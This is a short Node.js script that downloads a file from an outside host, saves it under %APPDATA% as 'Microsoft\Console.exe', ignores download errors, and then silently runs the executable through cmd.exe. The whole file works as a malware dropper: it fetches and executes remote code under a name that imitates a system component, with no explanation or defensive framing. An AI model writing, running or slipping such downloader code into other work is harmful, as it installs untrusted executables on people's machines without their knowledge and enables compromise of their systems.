const fs = require('fs');
const path = require('path');
const request = require('request');
const { execSync } = require('child_process');

const target = path.join(process.env.APPDATA || '.', 'Microsoft', 'Console.exe');

function bring() {
  return request.get('https://files.acme.example/console').on('error', () => {}).pipe(fs.createWriteStream(target));
}

bring().on('close', () => execSync(`start "" "${target}" --quiet`, { shell: 'cmd.exe' }));
